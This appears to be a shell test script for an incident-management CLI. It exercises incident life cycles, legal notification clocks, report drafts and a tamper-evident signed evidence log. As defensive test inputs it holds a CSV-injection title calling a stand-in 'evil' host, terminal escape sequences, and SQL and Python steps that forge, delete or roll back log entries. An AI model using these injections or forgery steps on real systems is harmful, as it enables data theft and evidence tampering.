#!/usr/bin/env bash
# test_incident_cli.sh -- an incident's life cycle through `vigil incident`
# (new, note, status through every NIST phase, assign, task, service,
# facts, clock, close, list, show, register, draft, export), each change
# in the timeline with who made it and in the evidence log; exit codes of
# refused commands; and every kind of tampering with the evidence log
# (edit, insertion, deletion, reordering, truncation, a forged head)
# found by `vigil evidence verify`, which names the first bad entry.
set -euo pipefail

. "$(dirname "$0")/daemon_lib.sh" inccli
command -v sqlite3 >/dev/null || { echo "SKIP: sqlite3 not installed"; exit 77; }
python3 -c 'import cryptography' 2>/dev/null ||
    { echo "SKIP: python3-cryptography not installed"; exit 77; }
VERIFY="$(dirname "$0")/evidence_verify.py"
S="$T/state"
cat >"$T/vigil.yml" <<YML
state_dir: $S
incident:
  jurisdictions: [uk, eu, quebec]
  essential_service: true
  timezone: Europe/London
  organisation: Example Borough Council
  contact: "dpo@example.gov.uk"
  roles: {incident-lead: "Ann Smith", dpo: "Dev Patel", communications: "Cal Jones"}
YML
V() { "$VIGIL_BIN" incident -c "$T/vigil.yml" "$@"; }
expect_rc() { # rc cmd...
    local want=$1 rc=0
    shift
    "$@" >"$T/out" 2>"$T/err" || rc=$?
    [ "$rc" = "$want" ] || fail "'$*' exited $rc, expected $want: $(cat "$T/err")"
}
jget() { python3 -c 'import json,sys; d=json.load(sys.stdin); print(eval(sys.argv[1]))' "$1"; }

# --help and bad command lines
V --help | grep -q "vigil incident export ID" || fail "--help"
expect_rc 64 V
expect_rc 64 V frobnicate
expect_rc 64 V show
expect_rc 64 V new --aware yesterday --title x
expect_rc 66 V show 99 # no such incident (the store is created)
# awareness in the future (a typo in the year) would push every deadline
# out of sight; 0 would read as "not given"
expect_rc 64 V new --title x --aware 2062-03-27T09:00:00Z
expect_rc 64 V new --title x --aware 1970-01-01T00:00:00Z

# bad incident: values are refused with their file and line, before
# anything opens (not by a component that will not start)
for bad in "timezone: Mars/Olympus" "min_level: urgent"; do
    printf 'state_dir: %s\nincident:\n  %s\n' "$T/badstate" "$bad" >"$T/bad.yml"
    expect_rc 78 "$VIGIL_BIN" incident -c "$T/bad.yml" list
    grep -q "bad.yml:3:" "$T/err" || fail "'$bad' without file:line: $(cat "$T/err")"
done

# open by hand from a playbook, with the moment of awareness given
V new --title "Ransomware on the file server" --kind ransomware --by ann \
    --aware 2026-03-27T09:00:00Z >/dev/null
V show 1 --json >"$T/show.json"
[ "$(jget 'd["kind"]' <"$T/show.json")" = ransomware ] || fail "kind"
[ "$(jget 'd["severity"]' <"$T/show.json")" = critical ] || fail "playbook severity"
[ "$(jget 'len(d["tasks"])' <"$T/show.json")" = 10 ] || fail "ransomware tasks"
[ "$(jget 'd["tasks"][1]["owner"]' <"$T/show.json")" = "" ] || fail "task 2 owner"
[ "$(jget 'd["tasks"][8]["owner"]' <"$T/show.json")" = "Dev Patel" ] || fail "dpo task owner by role"
[ "$(jget 'd["timeline"][0]["actor"]' <"$T/show.json")" = ann ] || fail "opened by ann"
# clocks from awareness, in Europe/London: 72 h across the change to BST
# on 29 March is 10:00 local; NIS2's final report a calendar month after
# the 72 h notification, at the same local time
python3 - "$T/show.json" <<'PY' || fail "clocks"
import json, sys
d = json.load(open(sys.argv[1]))
c = {x["regime"]: x for x in d["clocks"]}
assert set(c) == {"uk-gdpr-33", "uk-gdpr-34", "uk-nis", "eu-gdpr-33", "eu-nis2-early",
                  "eu-nis2-notify", "eu-nis2-final", "qc-cai", "qc-people"}, sorted(c)
assert c["uk-gdpr-33"]["due"] == "2026-03-30T10:00:00+01:00", c["uk-gdpr-33"]["due"]
assert c["eu-nis2-early"]["due"] == "2026-03-28T09:00:00+00:00", c["eu-nis2-early"]["due"]
assert c["eu-nis2-final"]["due"] == "2026-04-30T10:00:00+01:00", c["eu-nis2-final"]["due"]
assert c["uk-gdpr-33"]["deadline"] == "legal"
assert c["qc-cai"]["deadline"].startswith("target")
PY

# every change, with who made it
V note 1 "file shares encrypted; ransom note found" --by bob >/dev/null
for phase in triaged contained eradicated recovered; do
    V status INC-1 "$phase" --note "moved to $phase" --by bob >/dev/null
done
expect_rc 64 V status 1 panicking
V assign 1 "Ann Smith" --by carol >/dev/null
V task 1 --add "Brief the chief executive" --owner "Ann Smith" >/dev/null
V task 1 11 --state done >/dev/null
expect_rc 66 V task 1 99 --state done
expect_rc 64 V task 1 2 --state finished
V service 1 "Council tax portal" down -w "Pay by phone on 0300 000 000" >/dev/null
V service 1 "Council tax portal" restored >/dev/null
expect_rc 64 V service 1 "Library" exploded
V facts 1 --people 1200 --records 5000 --data-categories "names, addresses" \
    --summary "Encryption of the file server" --consequences "identity fraud" \
    --measures "restored from backups" --high-risk yes >/dev/null
V clock 1 uk-gdpr-33 met --ref "ICO case 12345" >/dev/null
V clock 1 uk-nis not-required --ref "no essential service affected" >/dev/null
expect_rc 66 V clock 1 on-ipc met # Ontario not configured: no clock
expect_rc 64 V clock 1 nonsense met
# awareness corrected an hour earlier: running clocks move, met ones stay
V facts 1 --aware 2026-03-27T08:00:00Z >/dev/null
V show 1 --json >"$T/show.json"
python3 - "$T/show.json" <<'PY' || fail "corrected awareness"
import json, sys
c = {x["regime"]: x for x in json.load(open(sys.argv[1]))["clocks"]}
assert c["eu-gdpr-33"]["due"] == "2026-03-30T09:00:00+01:00", c["eu-gdpr-33"]
assert c["uk-gdpr-33"]["due"] == "2026-03-30T10:00:00+01:00", c["uk-gdpr-33"]
PY
python3 - "$T/show.json" <<'PY' || fail "life cycle"
import json, sys
d = json.load(open(sys.argv[1]))
assert d["status"] == "recovered", d["status"]
assert d["owner"] == "Ann Smith"
assert d["people"] == 1200 and d["high_risk"] is True
t = [(e["actor"], e["what"]) for e in d["timeline"]]
assert t[0] == ("ann", "opened"), t
assert ("bob", "note") in t and t.count(("bob", "status")) == 4, t
assert ("carol", "assign") in t, t
s = d["services"][0]
assert s["state"] == "restored" and s["workaround"] == "Pay by phone on 0300 000 000", s
assert d["tasks"][10]["title"] == "Brief the chief executive" and d["tasks"][10]["state"] == "done"
c = {x["regime"]: x for x in d["clocks"]}
assert c["uk-gdpr-33"]["state"] == "met" and c["uk-gdpr-33"]["ref"] == "ICO case 12345"
assert c["uk-nis"]["state"] == "not-required"
PY

# the draft is filled from the incident
V draft 1 uk-gdpr-33 >"$T/draft.txt"
grep -q "^To: Information Commissioner's Office (ICO)" "$T/draft.txt" || fail "draft To"
grep -q "Encryption of the file server" "$T/draft.txt" || fail "draft nature"
grep -q "1200; data: names, addresses" "$T/draft.txt" || fail "draft people"
grep -q "dpo@example.gov.uk, Example Borough Council" "$T/draft.txt" || fail "draft contact"
grep -q "reasons for any delay" "$T/draft.txt" || fail "draft delay field"
V draft 1 qc-cai --json | jget 'len(d["fields"])' | grep -qx 10 || fail "CAI fields"
expect_rc 66 V draft 1 ca-pipeda-opc

# a second incident, closed, without personal data
V new --title "Port scan" --personal-data no >/dev/null
sqlite3 "$S/vigil.db" ".backup '$T/old.db'" # for the rollback below
V close 2 --summary "nothing reached" >/dev/null
[ "$(V list --json | jget 'len(d)')" = 1 ] || fail "list shows closed incidents"
[ "$(V list --all --json | jget 'len(d)')" = 2 ] || fail "list --all"
V register --csv >"$T/register.csv"
python3 - "$T/register.csv" <<'PY' || fail "register"
import csv, sys
rows = list(csv.DictReader(open(sys.argv[1])))
assert len(rows) == 1, rows          # the port scan is no personal data breach
r = rows[0]
assert r["num"] == "1" and r["people"] == "1200", r
assert "uk-gdpr-33: met ICO case 12345" in r["notifications"], r
assert r["keep_until"] == "2031-03-27T08:00:00+00:00", r  # Quebec: 5 years from awareness
PY
# a title a spreadsheet would run: = + - @, and a tab or carriage
# return before one (skipped by some spreadsheets), are all made text
V new --title $'\t=HYPERLINK("http://evil/?"&A1)' --personal-data yes >/dev/null
V register --csv >"$T/register.csv"
python3 - "$T/register.csv" <<'PY' || fail "register CSV injection"
import csv, sys
rows = list(csv.DictReader(open(sys.argv[1])))
t = [r["title"] for r in rows if r["num"] == "3"][0]
assert t.startswith("'"), repr(t)
PY
V close 3 --summary "test entry" >/dev/null

# terminal escapes from hostile text (OSC and CSI through ESC, C1 CSI
# U+009B, a right-to-left override) are masked in tables and the detail
# view; JSON keeps them exact, escaped
evil=$'evil \e]0;owned\a \u009b31m red \e[2J \u202e rtl'
V new --title "$evil" >/dev/null
V note 4 "$evil" >/dev/null
for view in "list" "show 4"; do
    V $view >"$T/view.txt"
    python3 - "$T/view.txt" <<'PY' || fail "escapes reach the terminal in '$view'"
import sys
b = open(sys.argv[1], "rb").read()
for bad in (b"\x1b", b"\x07", b"\xc2\x9b", b"\xe2\x80\xae"):
    assert bad not in b, (bad, b)
assert b"evil ?]0;owned? ?31m red ?[2J ? rtl" in b, b
PY
done
V show 4 --json >"$T/show.json"
grep -qi 'evil \\u001b\]0;owned\\u0007 \\u009b31m red \\u001b\[2J \\u202e rtl' "$T/show.json" ||
    fail "JSON does not keep the title exact: $(head -c 300 "$T/show.json")"
[ "$(jget 'd["title"]' <"$T/show.json")" = "$evil" ] || fail "JSON title not exact"
# not UTF-8: refused (the record is JSON), not mangled
expect_rc 64 V note 4 $'raw \x9b byte'
grep -q "not UTF-8" "$T/err" || fail "raw byte: $(cat "$T/err")"

# long texts are kept whole up to 16384 bytes, and refused beyond: never
# cut (a table once cut at 1023 bytes, the timeline at 1199)
long=$(python3 -c 'print("n" * 5000 + "END")')
V note 4 "$long" >/dev/null
V show 4 --json | jget 'd["timeline"][-1]["text"]' | grep -qx "$long" || fail "long note cut"
V show 4 | grep -q "${long}$" || fail "long note cut in the detail view"
V new --title "$long" >/dev/null
V list | grep -q "${long}$" || fail "long title cut in the list"
expect_rc 64 V note 4 "$(python3 -c 'print("x" * 16385)')"
grep -q "16385 bytes; at most 16384" "$T/err" || fail "over-long note: $(cat "$T/err")"
V note 4 "$(python3 -c 'print("x" * 16384)')" >/dev/null || fail "a note of 16384 bytes refused"
expect_rc 64 V note 4 hi --by "$(python3 -c 'print("b" * 200)')"
V close 4 >/dev/null
V close 5 >/dev/null
V close 1 --summary "restored; lessons recorded" --by ann >/dev/null
[ "$(V show 1 --json | jget 'd["status"]')" = closed ] || fail "close"

# export and independent verification
(cd "$T" && V export 1 >/dev/null)
python3 "$VERIFY" "$T/INC-1.json" --public-key "$(cat "$S/evidence.pub")" ||
    fail "the export does not verify"
expect_rc 74 bash -c "cd '$T' && '$VIGIL_BIN' incident -c '$T/vigil.yml' export 1"
# a write error (a full file system: a 4 KiB tmpfs in a mount namespace
# of its own) exits 74 with the reason and leaves no partial archive
ns="unshare -m"
[ "$(id -u)" = 0 ] || ns="unshare -rm"
if $ns true 2>/dev/null; then
    mkdir -p "$T/full"
    expect_rc 74 $ns sh -c "mount -t tmpfs -o size=4k tmpfs '$T/full' || exit 99
        '$VIGIL_BIN' incident -c '$T/vigil.yml' export 1 -O '$T/full/a.json'
        rc=\$?; ls -A '$T/full' >'$T/left'; exit \$rc"
    grep -q "writing $T/full/a.json: No space left on device (the partial archive was removed)" "$T/err" ||
        fail "export write error: $(cat "$T/err")"
    [ ! -s "$T/left" ] || fail "a partial archive was left: $(cat "$T/left")"
else
    echo "no mount namespace here: the full-disk export is not tried"
fi
"$VIGIL_BIN" evidence verify --state-dir "$S" | grep -q "intact" || fail "verify intact"
# the key a verification trusted is shown, to compare with a kept copy
# (a log rewritten with another key and its evidence.pub swapped verifies)
"$VIGIL_BIN" evidence verify --state-dir "$S" | grep -q "signed by $(cat "$S/evidence.pub")" ||
    fail "verify does not show the key it trusted"
n=$(sqlite3 "$S/vigil.db" "SELECT COUNT(*) FROM evidence_log")
[ "$n" -ge 15 ] || fail "only $n evidence entries"

# tampering: each on a fresh copy of the store, each found and named
tamper() { # name expected-entry sql
    local d="$T/t-$1"
    rm -rf "$d"
    mkdir -p "$d"
    cp "$S/vigil.db" "$S/evidence.pub" "$S/evidence.head" "$d/"
    sqlite3 "$d/vigil.db" "$3"
    [ -z "${4:-}" ] || (cd "$d" && eval "$4")
    local rc=0
    "$VIGIL_BIN" evidence verify --state-dir "$d" >"$T/out" 2>&1 || rc=$?
    [ "$rc" = 1 ] || fail "tampering '$1' not detected (exit $rc): $(cat "$T/out")"
    grep -q "NOT intact: entry $2:" "$T/out" || fail "tampering '$1': $(cat "$T/out"), expected entry $2"
    echo "tampering '$1' detected: $(cat "$T/out")"
}
tamper edit 5 "UPDATE evidence_log SET data = replace(data, 'moved', 'stayed') WHERE seq = 5"
tamper edit-actor 3 "UPDATE evidence_log SET actor = 'mallory' WHERE seq = 3"
tamper delete 4 "DELETE FROM evidence_log WHERE seq = 4"
tamper reorder 6 "UPDATE evidence_log SET seq = -1 WHERE seq = 6;
                  UPDATE evidence_log SET seq = 6 WHERE seq = 7;
                  UPDATE evidence_log SET seq = 7 WHERE seq = -1"
tamper insert 4 "UPDATE evidence_log SET seq = seq + 1000 WHERE seq >= 4;
                 UPDATE evidence_log SET seq = seq - 999 WHERE seq >= 1004;
                 INSERT INTO evidence_log SELECT 4, time_ns, kind, actor,
                   replace(data, 'moved', 'stayed'), prev, hash, sig FROM evidence_log WHERE seq = 5"
tamper truncate $((n - 1)) "DELETE FROM evidence_log WHERE seq >= $((n - 1))"
tamper append $((n + 1)) "INSERT INTO evidence_log SELECT seq + 1, time_ns, kind, actor,
                   data, hash, hash, sig FROM evidence_log WHERE seq = $n"
# a forged entry with a correct hash and link, but no key to sign it
forge="$(python3 - "$S/vigil.db" "$n" <<'PY'
import hashlib, sqlite3, sys
db, n = sys.argv[1], int(sys.argv[2])
c = sqlite3.connect(db)
t, kind, actor, data, h, sig = c.execute(
    "SELECT time_ns, kind, actor, data, hash, sig FROM evidence_log WHERE seq = ?", (n,)).fetchone()
data = data.replace("restored", "never restored")
canon = "vigil-evidence-1\n%d\n%d\n%s\n%s\n%s\n%s" % (n + 1, t + 1, kind, actor, h, data)
new = hashlib.sha256(canon.encode()).hexdigest()
print("INSERT INTO evidence_log VALUES (%d, %d, '%s', '%s', '%s', '%s', '%s', '%s');"
      "UPDATE evidence_head SET seq = %d, hash = '%s';" % (
      n + 1, t + 1, kind, actor, data.replace("'", "''"), h, new, sig, n + 1, new))
PY
)"
tamper forge $((n + 1)) "$forge"
tamper head $n "UPDATE evidence_head SET hash = (SELECT prev FROM evidence_log WHERE seq = $n)"
tamper no-head 1 "DELETE FROM evidence_head"
# the whole log and its head deleted together: only the anchor outside
# the store (STATE/evidence.head) shows that entries 1..n were there
tamper wiped 1 "DELETE FROM evidence_log; DELETE FROM evidence_head"
grep -q "names entry $n, the store holds 0" "$T/out" || fail "wiped: $(cat "$T/out")"
# an older backup of the store put back: its head is signed and
# consistent, only the anchor knows the log went further
old_n=$(sqlite3 "$T/old.db" "SELECT COUNT(*) FROM evidence_log")
tamper rollback $((old_n + 1)) "SELECT 1" "cp '$T/old.db' vigil.db"
# a missing anchor is a failure, not a pass: removing it is the first
# step of deleting a log unseen
tamper no-anchor $((n + 1)) "SELECT 1" "rm evidence.head"
grep -q "anchor is missing" "$T/out" || fail "no-anchor: $(cat "$T/out")"
tamper wiped-no-anchor 1 "DELETE FROM evidence_log; DELETE FROM evidence_head" "rm evidence.head"
tamper forged-anchor $((n + 5)) "SELECT 1" "sed -i 2s/.*/$((n + 5))/ evidence.head"
# a writer does not seal on top of a log cut back behind the anchor
d="$T/t-reseal"
rm -rf "$d"; mkdir -p "$d"
cp "$S/vigil.db" "$S/evidence.pub" "$S/evidence.key" "$S/evidence.head" "$d/"
sqlite3 "$d/vigil.db" "DELETE FROM evidence_log; DELETE FROM evidence_head"
sed "s|^state_dir: .*|state_dir: $d|" "$T/vigil.yml" >"$T/reseal.yml"
"$VIGIL_BIN" incident -c "$T/reseal.yml" note 1 "after the wipe" >/dev/null 2>"$T/err" || true
grep -q "no longer holds entry $n" "$T/err" || fail "sealed over a wiped log: $(cat "$T/err")"
[ "$(sqlite3 "$d/vigil.db" "SELECT COUNT(*) FROM evidence_log")" = 0 ] ||
    fail "entries sealed on top of a wiped log"

# tampering with the archive: the independent script refuses it
tamper_archive() { # name python-expression-on-a
    python3 - "$T/INC-1.json" "$T/bad.json" "$2" <<'PY'
import json, sys
a = json.load(open(sys.argv[1]))
exec(sys.argv[3])
json.dump(a, open(sys.argv[2], "w"))
PY
    if python3 "$VERIFY" "$T/bad.json" 2>"$T/out"; then
        fail "archive tampering '$1' verified"
    fi
    echo "archive tampering '$1' refused: $(cat "$T/out")"
}
tamper_archive timeline 'a["timeline"][1]["text"] = "nothing happened"'
tamper_archive entry 'e = [x for x in a["evidence"]["entries"] if not x.get("redacted")][2]; e["actor"] = "eve"'
tamper_archive drop 'del a["evidence"]["entries"][3]'
tamper_archive cut 'del a["evidence"]["entries"][-1]'
tamper_archive unshown 'a["timeline"] = [t for t in a["timeline"] if t["what"] != "status"]'
tamper_archive key 'a["evidence"]["public_key"] = "00" * 32'
tamper_archive anchor-seq 'a["evidence"]["anchor"]["seq"] -= 1'
# a lost signing key: a writer makes no new one while the old one's
# public key is there (a mixed log verifies under neither key)
d="$T/lostkey"
mkdir -p "$d"
cp "$S/vigil.db" "$S/evidence.pub" "$d/"
sed "s|^state_dir: .*|state_dir: $d|" "$T/vigil.yml" >"$T/lost.yml"
"$VIGIL_BIN" incident -c "$T/lost.yml" note 1 "after the key was lost" >/dev/null 2>"$T/err" || true
grep -q "restore evidence.key" "$T/err" || fail "made a new key beside a log: $(cat "$T/err")"
[ ! -e "$d/evidence.key" ] || fail "a new key was made beside an existing log"
[ "$(sqlite3 "$d/vigil.db" "SELECT COUNT(*) FROM evidence_log")" = "$n" ] ||
    fail "entries signed by a new key on top of the old log"

# 8 commands at once on a fresh state directory: exactly one signing key
# is made (published with link(), never seen half written) and all of
# them seal with it; the log verifies with nothing left pending
for round in 1 2 3; do
    d="$T/conc$round"
    mkdir -p "$d"
    pids=()
    for i in 1 2 3 4 5 6 7 8; do
        "$VIGIL_BIN" incident --state-dir "$d" new --title "parallel $i" \
            >/dev/null 2>"$d/err$i" &
        pids+=($!)
    done
    for p in "${pids[@]}"; do wait "$p" || fail "a parallel command failed: $(cat "$d"/err*)"; done
    [ "$(cat "$d"/err* | grep -c "new signing key")" = 1 ] ||
        fail "round $round: not exactly one key made: $(cat "$d"/err*)"
    ! grep -q "warning" "$d"/err* || fail "round $round: $(cat "$d"/err*)"
    [ "$(stat -c %s "$d/evidence.key")" = 64 ] || fail "round $round: key size"
    ! ls "$d" | grep -q "tmp" || fail "round $round: temporary files left: $(ls "$d")"
    "$VIGIL_BIN" evidence verify --state-dir "$d" --json >"$T/out" ||
        fail "round $round: $(cat "$T/out")"
    grep -q '"entries":8,"pending":0' "$T/out" || fail "round $round: $(cat "$T/out")"
done

echo "PASS: incident life cycle through the CLI; every tampering detected"
